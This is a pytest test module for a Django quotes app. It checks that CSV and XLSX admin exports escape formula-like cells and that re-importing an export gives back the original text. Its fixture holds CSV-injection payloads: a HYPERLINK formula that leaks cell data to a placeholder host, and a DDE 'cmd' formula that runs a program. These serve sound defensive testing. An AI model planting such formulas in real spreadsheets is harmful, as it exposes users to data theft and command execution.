"""The admin's spreadsheet export carries no live formula: in CSV a text cell that a spreadsheet
would evaluate starts with ' (quotes.text.spreadsheet_safe), in XLSX every cell is a value, never
a formula; importing the export back gives the original texts, changing nothing."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from quotes.models import Quote
from tests.admin.test_spreadsheet_import import CSV_FORMAT, XLSX_FORMAT, _export, _preview
from tests.factories import QuoteFactory, SourceFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'
TITLE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile_quote(db):
    source = SourceFactory(title=TITLE, outlet="+Outlet", text=f"He wrote “{FORMULA}” and left.")
    return QuoteFactory(source=source, text=FORMULA)


def test_csv_export_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote(
    client_for, editor, hostile_quote
):
    exported = _export(client_for(editor), CSV_FORMAT).decode()
    [row] = csv.DictReader(io.StringIO(exported))

    assert row["text"] == "'" + FORMULA
    assert row["source_title"] == "'" + TITLE
    assert row["source_outlet"] == "'+Outlet"
    assert row["id"] == str(hostile_quote.pk)


def test_xlsx_export_writes_no_formula_cell(client_for, editor, hostile_quote):
    exported = _export(client_for(editor), XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
    header, row = list(sheet.iter_rows())

    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
    assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
    assert cells["text"].value == "'" + FORMULA
    assert cells["source_title"].value == "'" + TITLE


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_reimporting_an_export_reads_the_original_texts_back(
    client_for, editor, hostile_quote, file_format
):
    client = client_for(editor)
    exported = _export(client, file_format)
    name = "export.csv" if file_format == CSV_FORMAT else "export.xlsx"

    result = _preview(client, SimpleUploadedFile(name, exported), file_format).context["result"]

    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    assert [row.import_type for row in result.rows] == ["skip"]
    assert Quote.objects.get().text == FORMULA
